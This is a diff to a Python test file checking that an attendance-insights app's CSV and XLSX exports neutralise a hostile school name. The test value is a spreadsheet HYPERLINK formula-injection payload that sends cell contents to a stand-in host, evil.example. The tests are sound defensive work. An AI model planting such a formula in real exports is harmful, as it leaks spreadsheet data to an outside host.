@@ -10,7 +10,8 @@ import math
 import pytest
 from openpyxl import load_workbook
 
-from attendwise.insights.exports import Table, filename, to_csv, to_xlsx
+from attendwise.insights.exports import XLSX_MIME, Table, filename, to_csv, to_xlsx
+from tests.insights.analysis_data import build_trust
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")'
 
@@ -75,3 +76,39 @@ def test_a_ragged_row_is_refused_naming_the_row() -> None:
 def test_download_names_are_plain() -> None:
     assert filename("What works: Stage 2 / letters", "xlsx") == "what-works-stage-2-letters.xlsx"
     assert filename("", "csv") == "table.csv"
+
+
+def test_a_page_table_downloads_with_a_hostile_school_name_stored_as_text(
+    client, login, make_user, db_session, make_trust, make_school
+) -> None:
+    trust = build_trust(db_session, make_trust, make_school, names=(HOSTILE, "Vale Primary"))
+    login(make_user(trust, "trust_leader"))
+    response = client.get("/insights/process?period=term&format=xlsx")
+    assert response.status_code == 200
+    assert response.mimetype == XLSX_MIME
+    assert (
+        'filename="process-measures-chalk-downs-learning-trust.xlsx"'
+        in response.headers["Content-Disposition"]
+    )
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    assert sheet is not None
+    names = {sheet.cell(row=r, column=1).value: sheet.cell(row=r, column=1) for r in range(2, 5)}
+    assert names[HOSTILE].data_type == "s"
+    assert "Vale Primary" in names
+    as_csv = client.get("/insights/what-works?period=term&format=csv")
+    assert as_csv.status_code == 200
+    assert as_csv.mimetype == "text/csv"
+    rows = list(csv.reader(io.StringIO(as_csv.data.decode("utf-8-sig"))))
+    assert rows[0][:3] == ["Step", "Pupils who had it", "Similar pupils who had not (yet)"]
+    process_csv = client.get("/insights/process?period=term&format=csv").data.decode("utf-8-sig")
+    assert "'" + HOSTILE.replace('"', '""') in process_csv
+
+
+def test_an_unknown_download_format_is_refused_naming_it(
+    client, login, make_user, db_session, make_trust, make_school
+) -> None:
+    trust = build_trust(db_session, make_trust, make_school)
+    login(make_user(trust, "trust_leader"))
+    response = client.get("/insights/process?format=pdf")
+    assert response.status_code == 400
+    assert "format: choose csv or xlsx, not &#39;pdf&#39;" in response.get_data(as_text=True)
